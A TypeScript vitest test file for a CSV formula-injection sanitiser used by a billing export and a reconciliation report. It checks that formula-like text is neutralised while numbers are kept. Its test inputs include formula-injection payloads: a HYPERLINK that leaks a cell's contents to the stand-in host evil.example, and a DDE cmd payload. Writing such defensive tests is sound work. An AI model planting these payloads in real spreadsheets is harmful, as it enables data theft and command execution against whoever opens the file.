import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { reportToCsv } from '../../engine/be200/csv.ts';
import { csvCell, csvField } from '../../engine/csv-cell.ts';
import { reconciliationCsv } from '../../engine/reconcile/report-files.ts';

describe('csvCell', () => {
  const check = (input: string, expected: string) => expect(csvCell(input)).toBe(expected);

  it('neutralises text a spreadsheet would run as a formula', () => {
    check('=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    check("+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`);
    check('-2+3', `'-2+3`);
    check('@SUM(A1:A9)', `'@SUM(A1:A9)`);
    check('\t=1+1', `'\t=1+1`);
    check('\r=1+1', `'\r=1+1`);
    check('-', `'-`);
  });

  it('keeps numbers as numbers, negative and signed ones included', () => {
    check('-12.50', '-12.50');
    check('+7', '+7');
    check('-0.001', '-0.001');
    check('1e-3', '1e-3');
    check('42', '42');
    check('-1,234.50', '-1,234.50');
    check('-1:02:03', '-1:02:03');
  });

  it('leaves ordinary text alone, also with = inside', () => {
    check('Acme Answering', 'Acme Answering');
    check('a=b', 'a=b');
    check('', '');
  });

  it('quotes a field as RFC 4180 asks, after neutralising it', () => {
    expect(csvField('Acme, Inc.')).toBe('"Acme, Inc."');
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField(-3)).toBe('-3');
  });
});

describe('every CSV writer neutralises text cells', () => {
  const parse = (csv: string) => Papa.parse<string[]>(csv.trim()).data;

  it('the Billing Export 200 CSV: a client name from IS data cannot become a formula', () => {
    const csv = reportToCsv({ header: ['ClientNumber', 'ClientName', 'SecCalls'], rows: [['1001', '=HYPERLINK("http://x")', '-3']] });
    expect(parse(csv)[1]).toEqual(['1001', `'=HYPERLINK("http://x")`, '-3']);
  });

  it('the reconciliation CSV: legacy text is neutralised, differences stay numbers', () => {
    const csv = reconciliationCsv({ header: ['Client', 'Name', 'Difference'], rows: [['1001', '@SUM(A1)', '-1.5']], accepted: [['1002', '+1+1', '2']] });
    expect(parse(csv).slice(1)).toEqual([
      ['1001', `'@SUM(A1)`, '-1.5'],
      ['1002', `'+1+1`, '2'],
    ]);
  });
});
